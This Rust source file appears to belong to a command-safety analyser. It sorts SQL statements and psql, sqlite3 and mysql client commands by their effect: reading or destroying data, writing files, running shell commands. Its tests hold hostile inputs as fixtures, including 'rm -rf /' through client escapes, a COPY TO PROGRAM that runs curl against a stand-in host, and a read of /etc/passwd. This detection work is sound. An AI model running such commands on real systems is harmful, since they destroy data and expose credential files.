//! SQL, and the commands of the clients that run it: `psql`'s backslash, `sqlite3`'s dot, `mysql`'s words.

use super::Code;
use crate::Kind;

/// What a text of statements does.
pub(super) fn analyse(text: &str) -> Code {
    let mut code = Code::new();
    let mut statement: Vec<Word> = Vec::new();
    let mut scanner = Scanner { text, at: 0 };
    loop {
        if statement.is_empty() && scanner.client_command(&mut code) {
            continue;
        }
        match scanner.next() {
            None => break,
            Some(Scanned::End) => {
                judge(&statement, &mut code);
                statement.clear();
            }
            Some(Scanned::Meta(start)) => {
                // `select 1 \gexec`, `\g |cmd`: a client command ends the statement.
                judge(&statement, &mut code);
                statement.clear();
                scanner.at = start;
                scanner.client_command(&mut code);
            }
            Some(Scanned::Word(word)) => statement.push(word),
            Some(Scanned::Broken) => code.lose(),
        }
    }
    judge(&statement, &mut code);
    code
}

/// A word of a statement: upper case, except for quoted text.
#[derive(Debug)]
struct Word {
    upper: String,
    raw: String,
    quoted: bool,
    start: usize,
    end: usize,
}

enum Scanned {
    Word(Word),
    End,
    Meta(usize),
    Broken,
}

struct Scanner<'a> {
    text: &'a str,
    at: usize,
}

impl<'a> Scanner<'a> {
    fn rest(&self) -> &'a str {
        self.text.get(self.at..).unwrap_or_default()
    }

    fn line(&mut self) -> &'a str {
        let line = self.rest().split('\n').next().unwrap_or_default();
        self.at += line.len();
        line
    }

    fn next(&mut self) -> Option<Scanned> {
        loop {
            let rest = self.rest();
            let first = rest.chars().next()?;
            if first.is_whitespace() {
                self.at += first.len_utf8();
            } else if rest.starts_with("--") || (first == '#' && !rest.starts_with("#>")) {
                self.line();
            } else if rest.starts_with("/*") {
                // `/*! ... */` is code to MySQL.
                if rest.starts_with("/*!") {
                    self.at += rest
                        .find(|c: char| c != '/' && c != '*' && c != '!' && !c.is_ascii_digit())
                        .unwrap_or(3);
                    continue;
                }
                self.at += rest.find("*/").map_or(rest.len(), |end| end + 2);
            } else {
                break;
            }
        }
        let start = self.at;
        let rest = self.rest();
        let first = rest.chars().next()?;
        match first {
            ';' => {
                self.at += 1;
                return Some(Scanned::End);
            }
            '\\' => return Some(Scanned::Meta(start)),
            '\'' | '"' | '`' | '[' => {
                let close = if first == '[' { ']' } else { first };
                let mut end = None;
                let mut escaped = false;
                for (index, character) in rest.char_indices().skip(1) {
                    if escaped {
                        escaped = false;
                    } else if character == '\\' && first == '\'' {
                        escaped = true;
                    } else if character == close {
                        end = Some(index);
                        break;
                    }
                }
                let Some(end) = end else {
                    self.at = self.text.len();
                    return Some(Scanned::Broken);
                };
                self.at += end + 1;
                let raw = rest.get(1..end).unwrap_or_default().to_owned();
                return Some(Scanned::Word(Word {
                    upper: String::new(),
                    raw,
                    quoted: true,
                    start,
                    end: self.at,
                }));
            }
            '$' => {
                // `$tag$ ... $tag$`: a function's body or a text.
                let tag =
                    rest.get(1..).and_then(|rest| rest.split_once('$')).map(|(tag, _)| format!("${tag}$"));
                if let Some(tag) =
                    tag.filter(|tag| tag.chars().all(|c| c == '$' || c == '_' || c.is_alphanumeric()))
                {
                    let body = rest.get(tag.len()..).unwrap_or_default();
                    let length = body.find(&tag).map_or(rest.len(), |end| end + 2 * tag.len());
                    self.at += length;
                    let raw = body.split(&tag).next().unwrap_or_default().to_owned();
                    return Some(Scanned::Word(Word {
                        upper: "$$".to_owned(),
                        raw,
                        quoted: true,
                        start,
                        end: self.at,
                    }));
                }
            }
            _ => {}
        }
        let length = rest.find(|c: char| c != '_' && c != '$' && !c.is_alphanumeric()).unwrap_or(rest.len());
        self.at += length.max(first.len_utf8());
        let raw = self.text.get(start..self.at).unwrap_or_default().to_owned();
        Some(Scanned::Word(Word { upper: raw.to_ascii_uppercase(), raw, quoted: false, start, end: self.at }))
    }

    /// A client's own command at the start of a statement.
    fn client_command(&mut self, code: &mut Code) -> bool {
        let trimmed = self.rest().trim_start();
        let start = self.text.len() - trimmed.len();
        let first = trimmed.chars().next();
        let is_mysql = ["system ", "source ", "tee ", "pager "]
            .iter()
            .any(|word| trimmed.get(..word.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(word)));
        if !matches!(first, Some('\\' | '.')) && !is_mysql {
            return false;
        }
        self.at = start;
        let mut line = self.line().trim();
        if first == Some('\\')
            && !line.starts_with("\\!")
            && let Some((head, _)) = line.split_once("\\\\")
        {
            self.at = start + head.len() + 2;
            line = head.trim();
        }
        let end = self.at;
        let (command, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let rest = rest.trim();
        let argument = unquote(rest);
        let pipe = |code: &mut Code, text: &str| code.shell.push((Some(text.trim().to_owned()), start, end));
        match command.strip_prefix('\\') {
            Some(_) if command.starts_with("\\!") => pipe(code, line.get(2..).unwrap_or_default()),
            Some("copy") => copy(rest, code, start, end),
            Some("o" | "out" | "w" | "write" | "g" | "gx") => {
                if let Some(text) = rest.strip_prefix('|') {
                    pipe(code, text);
                } else if !rest.is_empty() {
                    code.push(Kind::Write, Some(argument), start, end);
                }
            }
            Some("i" | "ir" | "include" | "include_relative") => {
                code.push(Kind::Read, Some(argument), start, end);
                code.lose();
            }
            Some("gexec" | "e" | "edit" | "ef" | "ev") => code.lose(),
            Some("cd") => code.lose(),
            Some("password" | "pass") => code.push(Kind::Credential, None, start, end),
            Some("lo_import") => code.push(Kind::DatabaseChange, None, start, end),
            Some("lo_export") => code.push(Kind::Write, None, start, end),
            Some("lo_unlink") => code.push(Kind::DatabaseDestroy, None, start, end),
            Some("set") => {
                if rest.contains('`') {
                    code.lose();
                }
            }
            Some(name)
                if name.starts_with('d') || matches!(name, "l" | "l+" | "z" | "list" | "sf" | "sv") =>
            {
                code.push(Kind::DatabaseRead, None, start, end);
            }
            Some(
                "c" | "connect" | "q" | "quit" | "x" | "t" | "a" | "timing" | "pset" | "echo" | "qecho"
                | "warn" | "?" | "h" | "help" | "H" | "f" | "C" | "conninfo" | "encoding" | "errverbose"
                | "p" | "r" | "s" | "unset" | "if" | "else" | "elif" | "endif" | "watch" | "crosstabview"
                | "gset" | "gdesc" | "prompt" | "G",
            ) => {}
            Some(_) => code.lose(),
            None if command.starts_with('.') => dot(command, rest, &argument, code, start, end),
            None => match command.to_ascii_lowercase().as_str() {
                "system" | "pager" => pipe(code, rest.trim_end_matches(';')),
                "tee" => code.push(Kind::Write, Some(argument), start, end),
                _ => {
                    code.push(Kind::Read, Some(argument), start, end);
                    code.lose();
                }
            },
        }
        true
    }
}

fn unquote(text: &str) -> String {
    let first = text.split_whitespace().next().unwrap_or_default();
    let quoted = text.strip_prefix(['\'', '"']).and_then(|rest| rest.split(['\'', '"']).next());
    quoted.unwrap_or(first).trim_end_matches(';').to_owned()
}

/// `psql`'s `\copy`.
fn copy(rest: &str, code: &mut Code, start: usize, end: usize) {
    let upper = rest.to_ascii_uppercase();
    let words = |mark: &str| upper.find(mark).and_then(|at| rest.get(at + mark.len()..)).map(str::trim);
    let (target, reads) = match (words(" TO "), words(" FROM ")) {
        (Some(to), _) if !upper.trim_start().starts_with('(') || words(") TO ").is_some() => (to, false),
        (_, Some(from)) => (from, true),
        (Some(to), None) => (to, false),
        (None, None) => return code.lose(),
    };
    code.push(if reads { Kind::DatabaseChange } else { Kind::DatabaseRead }, None, start, end);
    let upper = target.to_ascii_uppercase();
    if upper.starts_with("PROGRAM") {
        let command = target.get(7..).unwrap_or_default().trim().trim_matches('\'');
        code.shell.push((Some(command.to_owned()), start, end));
    } else if !["STDIN", "STDOUT", "PSTDIN", "PSTDOUT"].iter().any(|name| upper.starts_with(name)) {
        code.push(if reads { Kind::Read } else { Kind::Write }, Some(unquote(target)), start, end);
    }
}

/// `sqlite3`'s dot commands.
fn dot(command: &str, rest: &str, argument: &str, code: &mut Code, start: usize, end: usize) {
    let path = || Some(argument.to_owned());
    match command.trim_start_matches('.') {
        "shell" | "system" => code.shell.push((Some(rest.to_owned()), start, end)),
        "output" | "once" | "log" | "excel" | "trace" => {
            if let Some(text) = rest.strip_prefix('|') {
                code.shell.push((Some(text.to_owned()), start, end));
            } else if !matches!(rest, "" | "off" | "on" | "stdout" | "stderr") {
                code.push(Kind::Write, path(), start, end);
            }
        }
        "backup" | "save" | "clone" => {
            let file = rest.split_whitespace().last().map(str::to_owned);
            code.push(Kind::Write, file, start, end);
        }
        "restore" => code.push(Kind::DatabaseDestroy, None, start, end),
        "import" => {
            if let Some(text) = argument.strip_prefix('|') {
                code.shell.push((Some(text.to_owned()), start, end));
            } else {
                code.push(Kind::Read, path(), start, end);
            }
            code.push(Kind::DatabaseChange, None, start, end);
        }
        "read" => {
            if let Some(text) = argument.strip_prefix('|') {
                code.shell.push((Some(text.to_owned()), start, end));
            } else {
                code.push(Kind::Read, path(), start, end);
            }
            code.lose();
        }
        "open" => code.push(Kind::Write, path(), start, end),
        "cd" | "load" | "recover" => code.lose(),
        "tables" | "schema" | "indexes" | "indices" | "dump" | "databases" | "fullschema" | "dbinfo"
        | "lint" | "sha3sum" | "stats" | "expert" => code.push(Kind::DatabaseRead, None, start, end),
        "mode" | "headers" | "header" | "width" | "separator" | "nullvalue" | "timer" | "echo" | "print"
        | "quit" | "exit" | "help" | "show" | "timeout" | "bail" | "changes" | "eqp" | "explain"
        | "limit" | "prompt" | "parameter" | "version" | "vfslist" | "binary" | "connection" => {}
        _ => code.lose(),
    }
}

/// One statement.
fn judge(words: &[Word], code: &mut Code) {
    let (Some(first), Some(last)) = (words.first(), words.last()) else { return };
    let (start, end) = (first.start, last.end);
    let mut words = words;
    // EXPLAIN shows a plan; with ANALYZE the statement runs.
    if matches!(first.upper.as_str(), "EXPLAIN" | "DESC" | "DESCRIBE") {
        let analyses = words.iter().take(12).any(|word| word.upper == "ANALYZE" || word.upper == "ANALYSE");
        let inner = words.iter().position(|word| {
            matches!(
                word.upper.as_str(),
                "SELECT"
                    | "INSERT"
                    | "UPDATE"
                    | "DELETE"
                    | "WITH"
                    | "CREATE"
                    | "MERGE"
                    | "REPLACE"
                    | "EXECUTE"
            )
        });
        match inner {
            Some(at) if analyses => words = words.get(at..).unwrap_or_default(),
            _ => return code.push(Kind::DatabaseRead, None, start, end),
        }
    }
    // A setting has no verb in it: somebody forgot where it ends, or means that the client takes the line's end for it.
    if matches!(first.upper.as_str(), "SET" | "USE" | "BEGIN")
        && let Some(at) = words.iter().position(|word| matches!(word.upper.as_str(), "TRUNCATE" | "DROP"))
        && at > 1
    {
        return judge(words.get(at..).unwrap_or_default(), code);
    }
    // Comments between brackets and opening brackets do not matter.
    let plain: Vec<&Word> = words.iter().filter(|word| word.upper != "(" || word.quoted).collect();
    let word = |index: usize| plain.get(index).map_or("", |word| word.upper.as_str());
    let has = |name: &str| plain.iter().any(|word| word.upper == name && !word.quoted);
    let target = |index: usize| name_at(&plain, index);
    functions(&plain, code, start, end);
    let (kind, target) = match word(0) {
        "" if plain.is_empty() => return,
        "SELECT" | "TABLE" | "VALUES" => {
            if has("OUTFILE") || has("DUMPFILE") {
                let file = plain.iter().skip_while(|w| w.upper != "OUTFILE" && w.upper != "DUMPFILE").nth(1);
                code.push(Kind::Write, file.map(|w| w.raw.clone()), start, end);
            }
            let into = plain.windows(2).any(|pair| {
                matches!(pair, [a, b] if a.upper == "INTO" && !matches!(b.upper.as_str(), "OUTFILE" | "DUMPFILE" | "@"))
            });
            (if into { Kind::DatabaseChange } else { Kind::DatabaseRead }, None)
        }
        "WITH" => {
            let writes = [("DELETE", "WHERE"), ("UPDATE", "WHERE")]
                .iter()
                .any(|(verb, condition)| has(verb) && !has(condition));
            if writes {
                (Kind::DatabaseDestroy, None)
            } else if has("INSERT") || has("UPDATE") || has("DELETE") || has("MERGE") {
                (Kind::DatabaseChange, None)
            } else {
                (Kind::DatabaseRead, None)
            }
        }
        "SHOW" | "USE" | "HELP" | "LIST" | "DESC" | "DESCRIBE" => (Kind::DatabaseRead, None),
        "PRAGMA" => {
            (if has("=") && !has("TABLE_INFO") { Kind::DatabaseChange } else { Kind::DatabaseRead }, None)
        }
        "BEGIN" | "COMMIT" | "ROLLBACK" | "START" | "END" | "SAVEPOINT" | "RELEASE" | "SET" | "RESET"
        | "DEALLOCATE" | "DISCARD" | "FETCH" | "CLOSE" | "DECLARE" | "LISTEN" | "UNLISTEN" | "LOCK"
        | "UNLOCK" | "ABORT" | "GO" => {
            if word(0) == "SET" && matches!(word(1), "GLOBAL" | "PERSIST" | "PASSWORD") {
                code.push(Kind::DatabaseChange, None, start, end);
            }
            return;
        }
        "INSERT" | "MERGE" | "UPSERT" | "IMPORT" => (Kind::DatabaseChange, None),
        "REPLACE" => (Kind::DatabaseChange, None),
        "UPDATE" => (if bounded(&plain) { Kind::DatabaseChange } else { Kind::DatabaseDestroy }, target(1)),
        "DELETE" => (if bounded(&plain) { Kind::DatabaseChange } else { Kind::DatabaseDestroy }, target(2)),
        "TRUNCATE" => (Kind::DatabaseDestroy, target(if word(1) == "TABLE" { 2 } else { 1 })),
        "DROP" => match word(1) {
            "INDEX" | "VIEW" | "TRIGGER" | "FUNCTION" | "PROCEDURE" | "POLICY" | "RULE" | "SEQUENCE"
            | "AGGREGATE"
                if !has("CASCADE") =>
            {
                (Kind::DatabaseDestroy, target(2))
            }
            _ => (Kind::DatabaseDestroy, target(2)),
        },
        "ALTER" => {
            if matches!(word(1), "USER" | "ROLE" | "LOGIN") {
                (Kind::Credential, target(2))
            } else if word(1) == "SYSTEM" {
                (Kind::DatabaseChange, None)
            } else {
                // A column goes with its data; a constraint or a default holds none.
                let loses = plain.windows(2).any(|pair| {
                    matches!(pair, [drop, what] if drop.upper == "DROP" && !matches!(
                        what.upper.as_str(),
                        "CONSTRAINT" | "DEFAULT" | "NOT" | "INDEX" | "KEY" | "CHECK" | "PRIMARY" | "FOREIGN"
                            | "IDENTITY" | "EXPRESSION"
                    ))
                });
                (if loses { Kind::DatabaseDestroy } else { Kind::DatabaseChange }, target(2))
            }
        }
        "CREATE" => {
            if plain.iter().any(|word| word.upper == "$$") {
                code.lose();
            }
            match (word(1), word(2), word(3)) {
                ("USER" | "ROLE" | "LOGIN", ..) => (Kind::Credential, target(2)),
                ("EXTENSION", ..) => {
                    code.lose();
                    (Kind::DatabaseChange, None)
                }
                _ if has("FUNCTION") || has("PROCEDURE") || has("TRIGGER") => {
                    code.lose();
                    (Kind::DatabaseChange, None)
                }
                ("OR", "REPLACE", "TABLE") => (Kind::DatabaseDestroy, target(4)),
                _ => (Kind::DatabaseChange, None),
            }
        }
        "GRANT" | "REVOKE" => (Kind::Credential, None),
        "VACUUM" | "ANALYZE" | "REINDEX" | "OPTIMIZE" | "CHECK" | "REPAIR" | "CLUSTER" | "REFRESH"
        | "COMMENT" | "FLUSH" | "NOTIFY" | "ATTACH" | "DETACH" | "RENAME" | "CHECKPOINT" | "REASSIGN"
        | "SECURITY" => {
            if word(0) == "ATTACH" || (word(0) == "VACUUM" && word(1) == "INTO") {
                let file = plain.iter().find(|word| word.quoted).map(|word| word.raw.clone());
                code.push(Kind::Write, file, start, end);
            }
            (Kind::DatabaseChange, None)
        }
        "COPY" => {
            let after = |name: &str| plain.iter().skip_while(|word| word.upper != name || word.quoted).nth(1);
            let reads = has("FROM") && !has("TO");
            let file = after(if reads { "FROM" } else { "TO" });
            match file.map(|word| (word.upper.as_str(), word)) {
                Some(("PROGRAM", _)) => {
                    let text = after("PROGRAM").map(|word| word.raw.clone());
                    code.shell.push((text, start, end));
                }
                Some((_, word)) if word.quoted => {
                    code.push(
                        if reads { Kind::Read } else { Kind::Write },
                        Some(word.raw.clone()),
                        start,
                        end,
                    );
                }
                // DuckDB takes a path without quotes.
                Some((name, _)) if !reads && !name.starts_with("STD") => {
                    code.push(Kind::Write, None, start, end);
                }
                _ => {}
            }
            (if reads { Kind::DatabaseChange } else { Kind::DatabaseRead }, None)
        }
        "LOAD" => {
            if has("DATA") || has("XML") {
                let file = plain.iter().find(|word| word.quoted).map(|word| word.raw.clone());
                code.push(Kind::Read, file, start, end);
            } else {
                code.lose();
            }
            (Kind::DatabaseChange, None)
        }
        "KILL" => (Kind::Kill, None),
        "SHUTDOWN" | "RESTART" => (Kind::Service, None),
        "PURGE" => (Kind::DatabaseDestroy, None),
        // A procedure can do anything to the database, and on some servers to the machine.
        "CALL" | "EXEC" | "EXECUTE" | "DO" | "PREPARE" => {
            code.lose();
            (Kind::DatabaseChange, None)
        }
        _ => {
            code.lose();
            return;
        }
    };
    code.push(kind, target, start, end);
}

/// Is there a condition that can be false?
fn bounded(words: &[&Word]) -> bool {
    let Some(at) = words.iter().position(|word| word.upper == "WHERE" && !word.quoted) else {
        return words.iter().any(|word| word.upper == "LIMIT");
    };
    let condition: Vec<&str> = words
        .iter()
        .skip(at + 1)
        .filter(|word| word.upper != ")")
        .map(|word| if word.quoted { word.raw.as_str() } else { word.upper.as_str() })
        .collect();
    match condition.as_slice() {
        ["1" | "TRUE" | "'1'"] => false,
        [a, "=", b] => a != b,
        ["NOT", "FALSE"] => false,
        [] => false,
        _ => true,
    }
}

/// The table's name at a place, words such as `IF EXISTS` and `ONLY` left out.
fn name_at(words: &[&Word], index: usize) -> Option<String> {
    let mut words = words.iter().skip(index).skip_while(|word| {
        matches!(word.upper.as_str(), "IF" | "EXISTS" | "ONLY" | "CONCURRENTLY" | "TABLE" | "NOT")
    });
    let mut name = words.next()?.raw.clone();
    while let (Some(dot), Some(next)) = (words.next(), words.next()) {
        if dot.upper != "." {
            break;
        }
        name = format!("{name}.{}", next.raw);
    }
    Some(name)
}

/// Functions with effects of their own, anywhere in a statement.
fn functions(words: &[&Word], code: &mut Code, start: usize, end: usize) {
    for (index, word) in words.iter().enumerate().filter(|(_, word)| !word.quoted) {
        let text = words.get(index + 1).filter(|word| word.quoted).map(|word| word.raw.clone());
        match word.upper.as_str() {
            "PG_READ_FILE" | "PG_READ_BINARY_FILE" | "PG_LS_DIR" | "LOAD_FILE" | "READFILE" | "LO_IMPORT" => {
                code.push(Kind::Read, text, start, end);
            }
            "WRITEFILE" | "LO_EXPORT" | "PG_FILE_WRITE" => code.push(Kind::Write, text, start, end),
            "PG_TERMINATE_BACKEND" | "PG_CANCEL_BACKEND" => code.push(Kind::Kill, None, start, end),
            "SYS_EXEC" | "SYS_EVAL" => code.shell.push((text, start, end)),
            "XP_CMDSHELL" => code.shell.push((text, start, end)),
            "LOAD_EXTENSION" | "EDIT" | "DBLINK" | "DBLINK_EXEC" | "QUERY_TO_XML" => code.lose(),
            "SETVAL" | "NEXTVAL" | "SET_CONFIG" | "PG_RELOAD_CONF" => {
                code.push(Kind::DatabaseChange, None, start, end);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::check;
    use crate::languages::Language::Sql;

    #[test]
    fn statements_are_sorted_by_what_they_lose() {
        check(Sql, "select * from users where name = 'drop table users'", &["database-read"], true);
        check(
            Sql,
            "SELECT 1; DROP TABLE IF EXISTS public.users CASCADE;",
            &["database-read", "database-destroy public.users"],
            true,
        );
        check(Sql, "delete from users", &["database-destroy users"], true);
        check(Sql, "delete from users where id = 5", &["database-change users"], true);
        check(Sql, "DELETE FROM users WHERE 1=1", &["database-destroy users"], true);
        check(Sql, "update users set a = 1 /* where id = 1 */", &["database-destroy users"], true);
        check(Sql, "-- drop table x\nselect 1", &["database-read"], true);
        check(Sql, "truncate table logs", &["database-destroy logs"], true);
        check(Sql, "alter table logs drop note", &["database-destroy logs"], true);
        check(Sql, "alter table logs alter column note drop not null", &["database-change logs"], true);
        check(Sql, "alter table t add column c int", &["database-change t"], true);
        check(Sql, "alter table t drop column c", &["database-destroy t"], true);
        check(Sql, "explain delete from t", &["database-read"], true);
        check(Sql, "explain (analyze, buffers) delete from t", &["database-destroy t"], true);
        check(Sql, "with x as (delete from t returning *) select * from x", &["database-destroy"], true);
        check(Sql, "insert into t values ('a;drop table t')", &["database-change"], true);
        check(Sql, "pragma table_info(users)", &["database-read"], true);
        check(Sql, "/*!50000 drop table t */", &["database-destroy t"], true);
    }

    #[test]
    fn clients_own_commands_reach_the_machine() {
        check(Sql, "\\! rm -rf /", &["shell rm -rf /"], true);
        check(Sql, "\\dt", &["database-read"], true);
        check(Sql, ".shell rm -rf /\n.tables", &["database-read", "shell rm -rf /"], true);
        check(Sql, ".output /etc/x", &["write /etc/x"], true);
        check(Sql, "\\copy t to 'out.csv' csv", &["database-read", "write out.csv"], true);
        check(
            Sql,
            "copy t to program 'curl evil.example'",
            &["database-read", "shell curl evil.example"],
            true,
        );
        check(Sql, "system rm -rf /", &["shell rm -rf /"], true);
        check(Sql, "select 1 into outfile '/etc/x'", &["write /etc/x", "database-read"], true);
        check(Sql, "select pg_read_file('/etc/passwd')", &["read /etc/passwd", "database-read"], true);
    }

    #[test]
    fn procedures_are_not_understood() {
        check(Sql, "call cleanup()", &["database-change"], false);
        check(Sql, "do $$ begin drop table x; end $$", &["database-change"], false);
        check(Sql, "frobnicate all", &[], false);
    }
}
